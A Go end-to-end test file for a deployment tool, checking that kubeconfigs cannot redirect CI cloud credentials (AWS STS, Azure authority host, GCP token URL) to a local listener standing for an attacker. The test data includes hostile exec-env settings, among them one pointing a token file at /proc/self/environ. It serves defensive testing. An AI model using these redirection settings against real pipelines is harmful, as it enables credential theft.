//go:build e2e

package e2e

import (
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/shepherd-deploy/shepherd/internal/testcluster"
)

// A kubeconfig chooses a cluster and a role, never where credentials go: the in-process
// cloud logins refuse a kubeconfig that names an endpoint, a token file or credentials (in
// its exec args or env), and send credentials only to the cloud's own endpoints or to one the
// workflow lists in the cloud_endpoints input. Each test points the kubeconfig (or an
// unlisted endpoint) at a local listener standing for an attacker's host, which the job
// trusts, and proves it got no connection at all. The clouds' token endpoints themselves are
// the local stand-ins of internal/testcluster (only the clouds reach the real ones).

// hostileHost is a local HTTPS listener standing for an attacker's host: its certificate is
// in the CA file the job trusts (SSL_CERT_FILE, with the stand-ins' CA), so a login that
// sent to it would connect; conns counts every connection it got.
func hostileHost(t *testing.T, c *testcluster.Cluster) (url, caFile string, conns *atomic.Int32) {
	t.Helper()
	conns = new(atomic.Int32)
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("the hostile host got %s %s", r.Method, r.URL)
	}))
	srv.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			conns.Add(1)
		}
	}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	ca := append(c.CA().PEM(), pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})...)
	caFile = filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(caFile, ca, 0o600); err != nil {
		t.Fatal(err)
	}
	return srv.URL, caFile, conns
}

// withExecEnv adds env entries (name, value pairs) to execKubeconfig's exec plugin.
func withExecEnv(kc string, pairs ...string) string {
	var b strings.Builder
	b.WriteString("      interactiveMode: Never\n      env:\n")
	for i := 0; i+1 < len(pairs); i += 2 {
		fmt.Fprintf(&b, "      - name: %s\n        value: %q\n", pairs[i], pairs[i+1])
	}
	return strings.Replace(kc, "      interactiveMode: Never\n", b.String(), 1)
}

// refused runs a deploy that must be refused before it reaches the cluster, the output naming
// each of want.
func refused(t *testing.T, c *testcluster.Cluster, kc string, extra []string, env []string, want ...string) {
	t.Helper()
	ns := c.NewNamespace(t)
	r := runAction(t, deployInputs(c, ns, "1.0.0", append([]string{"kubeconfig", kc}, extra...)...), env...)
	for _, w := range want {
		if !strings.Contains(r.Stdout, w) {
			t.Errorf("the refusal does not say %q:\n%s", w, r.Stdout)
		}
	}
	if r.Exit == 0 || releaseSecrets(t, c, ns) != "" {
		t.Errorf("exit %d, or it wrote:\n%s", r.Exit, r.Stdout)
	}
}

func TestEKSKubeconfigCannotRedirectCredentials(t *testing.T) {
	t.Parallel()
	c := testcluster.Shared(t)
	ci := c.AWS.User("ci-redirect")
	grant := testcluster.Grant{Repository: keylessRepo, Environment: "production"}
	role := c.AWS.Role("deploy-redirect", grant.Subject())
	jwt, err := c.OIDC.Token(grant, "sts.amazonaws.com")
	if err != nil {
		t.Fatal(err)
	}
	tokenFile := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(tokenFile, []byte(jwt), 0o600); err != nil {
		t.Fatal(err)
	}
	evil, caFile, conns := hostileHost(t, c)
	kc := execKubeconfig(c, "aws", "eks", "get-token", "--cluster-name", c.AWS.ClusterID, "--region", c.AWS.Region)
	keys := []string{noCloudCLIs, "SSL_CERT_FILE=" + caFile, "AWS_ACCESS_KEY_ID=" + ci.AccessKeyID, "AWS_SECRET_ACCESS_KEY=" + ci.SecretAccessKey}

	// The kubeconfig's exec env blanks the job's keys, so that a token file and a role of its
	// choosing are exchanged at its STS endpoint.
	refused(t, c, withExecEnv(kc, "AWS_ACCESS_KEY_ID", "", "AWS_SECRET_ACCESS_KEY", "", "AWS_WEB_IDENTITY_TOKEN_FILE", tokenFile,
		"AWS_ROLE_ARN", role, "AWS_ENDPOINT_URL_STS", evil), nil, keys,
		"exec env sets", "AWS_ACCESS_KEY_ID", "AWS_ENDPOINT_URL_STS", "AWS_WEB_IDENTITY_TOKEN_FILE", "job's environment only")
	// The job's own STS endpoint outside AWS's domains, not listed in cloud_endpoints.
	refused(t, c, kc, nil, []string{noCloudCLIs, "SSL_CERT_FILE=" + caFile, "AWS_WEB_IDENTITY_TOKEN_FILE=" + tokenFile,
		"AWS_ROLE_ARN=" + role, "AWS_ENDPOINT_URL_STS=" + evil}, "AWS_ENDPOINT_URL_STS", "cloud_endpoints")
	if n := conns.Load(); n != 0 {
		t.Errorf("the hostile STS endpoint got %d connections", n)
	}
}

func TestAKSKubeconfigCannotRedirectCredentials(t *testing.T) {
	t.Parallel()
	c := testcluster.Shared(t)
	tenant, client := "72f988bf-86f1-41af-91ab-2d7cd011db47", "0b1f5f44-3333-4c2e-9a55-000000000003"
	grant := testcluster.Grant{Repository: keylessRepo, Environment: "production"}
	c.Azure.App(client, grant.Subject(), "sp-secret-redirect")
	evil, caFile, conns := hostileHost(t, c)
	args := func(login string, more ...string) []string {
		return append([]string{"get-token", "--login", login, "--server-id", c.Azure.ServerID, "--client-id", client, "--tenant-id", tenant}, more...)
	}
	wi := append([]string{noCloudCLIs, "SSL_CERT_FILE=" + caFile}, c.OIDC.Runner(grant)...)
	spn := []string{noCloudCLIs, "SSL_CERT_FILE=" + caFile, "AAD_SERVICE_PRINCIPAL_CLIENT_SECRET=sp-secret-redirect"}

	// The job's GitHub OIDC token, to the kubeconfig's authority host.
	refused(t, c, execKubeconfig(c, "kubelogin", args("workloadidentity", "--authority-host", evil)...), nil, wi, "--authority-host", "cloud_endpoints")
	// A file of the kubeconfig's choosing as the assertion, to its authority host.
	refused(t, c, withExecEnv(execKubeconfig(c, "kubelogin", args("workloadidentity")...), "AZURE_FEDERATED_TOKEN_FILE", "/proc/self/environ",
		"AZURE_AUTHORITY_HOST", evil), nil, wi, "exec env sets", "AZURE_AUTHORITY_HOST", "AZURE_FEDERATED_TOKEN_FILE")
	// The job's service principal secret, to the kubeconfig's authority host.
	refused(t, c, withExecEnv(execKubeconfig(c, "kubelogin", args("spn")...), "AZURE_AUTHORITY_HOST", evil), nil, spn, "AZURE_AUTHORITY_HOST")
	// The job's own authority host that is not Microsoft's, unlisted.
	refused(t, c, execKubeconfig(c, "kubelogin", args("spn")...), nil, append(spn, "AZURE_AUTHORITY_HOST="+evil), "AZURE_AUTHORITY_HOST", "cloud_endpoints")
	if n := conns.Load(); n != 0 {
		t.Errorf("the hostile authority host got %d connections", n)
	}
}

func TestGKEKubeconfigCannotRedirectCredentials(t *testing.T) {
	t.Parallel()
	c := testcluster.Shared(t)
	evil, caFile, conns := hostileHost(t, c)
	runner := c.OIDC.Runner(testcluster.Grant{Repository: keylessRepo, Environment: "production"})
	reqURL, reqToken := strings.TrimPrefix(runner[0], "ACTIONS_ID_TOKEN_REQUEST_URL="), strings.TrimPrefix(runner[1], "ACTIONS_ID_TOKEN_REQUEST_TOKEN=")
	provider := "//iam.googleapis.com/projects/123456/locations/global/workloadIdentityPools/github/providers/github"
	file := func(name, tokenURL string) string {
		creds := fmt.Sprintf(`{"type": "external_account", "audience": %q, "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
  "token_url": %q, "credential_source": {"url": %q, "headers": {"Authorization": "Bearer %s"},
  "format": {"type": "json", "subject_token_field_name": "value"}}}`, provider, tokenURL, reqURL+"&audience=https:"+provider, reqToken)
		p := filepath.Join(t.TempDir(), name)
		if err := os.WriteFile(p, []byte(creds), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	good, bad := file("gha-creds-good.json", c.Google.URL+"/v1/token"), file("gha-creds-evil.json", evil+"/v1/token")
	env := append([]string{noCloudCLIs, "SSL_CERT_FILE=" + caFile}, runner...)
	listed := []string{"cloud_endpoints", c.Google.URL}

	// The kubeconfig's exec env names another credentials file, whose token URL is its host.
	refused(t, c, withExecEnv(execKubeconfig(c, "gke-gcloud-auth-plugin"), "GOOGLE_APPLICATION_CREDENTIALS", bad), listed,
		append(env, "GOOGLE_APPLICATION_CREDENTIALS="+good), "exec env sets", "GOOGLE_APPLICATION_CREDENTIALS")
	// The job's own file whose token URL is not Google's, unlisted.
	refused(t, c, execKubeconfig(c, "gke-gcloud-auth-plugin"), listed, append(env, "GOOGLE_APPLICATION_CREDENTIALS="+bad), "token_url", "cloud_endpoints")
	if n := conns.Load(); n != 0 {
		t.Errorf("the hostile token endpoint got %d connections", n)
	}
}

// The cloud_endpoints input takes https origins only: anything else is refused, naming the
// input, before the cluster is reached.
func TestUnknownCloudEndpointsInputRefused(t *testing.T) {
	t.Parallel()
	c := testcluster.Shared(t)
	for _, bad := range []string{"http://sts.internal.example", "https://user:pw@sts.internal.example", "https://sts.internal.example/v1/token"} {
		refused(t, c, string(c.Kubeconfig), []string{"cloud_endpoints", bad}, nil, "cloud_endpoints", "https origin")
	}
}
